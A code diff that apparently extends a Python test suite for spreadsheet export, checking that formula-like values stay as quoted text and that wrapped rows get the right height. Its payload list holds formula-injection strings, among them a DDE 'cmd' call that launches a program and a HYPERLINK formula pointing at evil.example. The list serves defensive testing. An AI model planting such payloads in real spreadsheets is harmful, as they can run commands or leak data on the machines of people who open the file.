@@ -23,6 +23,8 @@ STEMS = ["1+1", "SUM(A1:A9)", "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.examp
 PAYLOADS = [sign + stem for sign in ("=", "+", "-", "@", "\t=", "\n=", "＝") for stem in STEMS]
 PAYLOADS += ["=", "'=1+1", "''=1", "#N/A", "#REF!", "TRUE", "1e5", "0123", "31/12/2022", "_x0041_ _x000D_", " a\n b "]
 
+ABOUT = [("Filters", "Kind: Recommendation; " * 5), ("Made", "On 1 March 2022")]
+
 
 def table(*values: Any, **more: Any) -> Table:
     return Table("Register", [Column("what", "What", Of.TEXT)], [(value,) for value in values], **more)
@@ -56,6 +58,12 @@ def test_text_is_text_in_a_workbook() -> None:
     # openpyxl leaves the codes of characters as they stand.
     like_codes = {"_x0041_ _x000D_": "_x005F_x0041_ _x005F_x000D_"}
     assert by_openpyxl(file) == [(like_codes.get(text, text), "s") for text in PAYLOADS]
+
+
+def test_what_looks_like_a_formula_stays_text_when_somebody_edits_it() -> None:
+    book = load_workbook(io.BytesIO(xlsx(table("=1+1", "+1", "-1", "@A1", "\t=1", "#N/A", "1+1", "plain"))))
+
+    assert [row[0].quotePrefix for row in book["Register"].iter_rows(min_row=2)] == [True] * 6 + [False] * 2
 
 
 def test_no_workbook_has_a_formula() -> None:
@@ -115,9 +123,11 @@ def test_any_title_can_be_that_of_a_workbook(title: str) -> None:
 
 
 def test_long_words_are_wrapped_and_their_row_is_as_high_as_they_are() -> None:
-    sheet = load_workbook(io.BytesIO(xlsx(table("x" * 60, "a\nb" * 10, date(2022, 3, 1)))))["Register"]
+    book = load_workbook(io.BytesIO(xlsx(table("x" * 60, "a\nb" * 10, date(2022, 3, 1), "a\nb", about=ABOUT))))
+    sheet = book["Register"]
 
-    assert [sheet.row_dimensions[number].height for number in range(1, 5)] == [None, 45.0, 180.0, None]
+    assert [sheet.row_dimensions[number].height for number in range(1, 6)] == [None, 45.0, 180.0, None, 30.0]
+    assert [book["About"].row_dimensions[number].height for number in range(1, 4)] == [None, 30.0, None]
     assert {cell.alignment.vertical for (cell,) in sheet.iter_rows()} == {"top"}
     assert [cell.alignment.wrap_text for (cell,) in sheet.iter_rows()][:3] == [True, True, True]
     assert (sheet["A1"].font.b, sheet["A1"].font.name, sheet["A4"].alignment.horizontal) == (True, "Calibri", "left")
